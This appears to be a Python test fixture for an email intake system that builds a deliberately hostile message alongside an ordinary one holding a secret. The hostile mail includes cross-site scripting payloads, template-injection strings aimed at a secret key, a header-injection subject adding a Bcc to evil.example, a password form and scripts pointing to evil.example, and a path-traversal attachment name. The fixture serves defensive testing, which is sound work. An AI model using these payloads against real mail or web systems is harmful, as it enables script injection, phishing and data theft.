"""An attack in a mail of Alice, and what Bob tells us alone."""

from email import policy
from email.message import EmailMessage

from cast import NOW
from conversations.channels.mail.taking import taken_in
from houvast.conversations.channels.mail.actions.intake import keep
from houvast.conversations.models import Message, RawMail

HOSTILE_NAME = '"Alice <script>alert(1)</script> {{7*7}}"'
HOSTILE_SUBJECT = (
    "=?utf-8?q?Ketel_=3Cimg_src=3Dx_onerror=3Dalert(2)=3E=0D=0ABcc:_eve@evil.example?="
)
HOSTILE_HTML = """
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="alert(3)"><script src="https://evil.example/x.js"></script>
<p style="position:fixed">De ketel lekt</p><img src="https://evil.example/seen.gif" onerror="x()">
<a href="javascript:alert(4)">hier</a><a href="data:text/html,<script>1</script>">daar</a>
<form action="https://evil.example/"><input name="password"></form><svg onload="alert(5)"></svg>
<iframe src="https://evil.example/"></iframe></body></html>
"""
BOBS_SECRET = "Sleutel ligt onder de rode bloempot"


def hostile_mail() -> bytes:
    mail = EmailMessage(policy=policy.SMTP)
    mail["To"], mail["Message-ID"] = "hallo@warmhuis.example", "<a@post.example>"
    mail.set_content("De ketel lekt <script>alert(6)</script> {{ settings.SECRET_KEY }}")
    mail.add_alternative(HOSTILE_HTML, subtype="html")
    attack = b"<script>alert(document.cookie)</script>"
    mail.add_attachment(attack, maintype="text", subtype="html", filename='../../e"v\u202eil.html')
    mail.add_attachment(
        b"<svg onload='x()'/>", maintype="image", subtype="svg+xml", filename="x.svg"
    )
    head = f"From: {HOSTILE_NAME} <alice@post.example>\r\nSubject: {HOSTILE_SUBJECT}\r\n"
    return head.encode() + mail.as_bytes()


def bobs_mail() -> bytes:
    mail = EmailMessage(policy=policy.SMTP)
    mail["From"], mail["To"] = "Bob Peters <bob@post.example>", "hallo@warmhuis.example"
    mail["Subject"], mail["Message-ID"] = "Radiator Eikstraat", "<b@post.example>"
    mail.set_content(BOBS_SECRET)
    return mail.as_bytes()


def put_on_file(raw: bytes) -> Message:
    keep(raw=raw, via="smtp", now=NOW, mail_from="alice@post.example")
    kept = RawMail.objects.order_by("-pk")[0]
    message = taken_in(kept.pk)
    assert message is not None
    return message
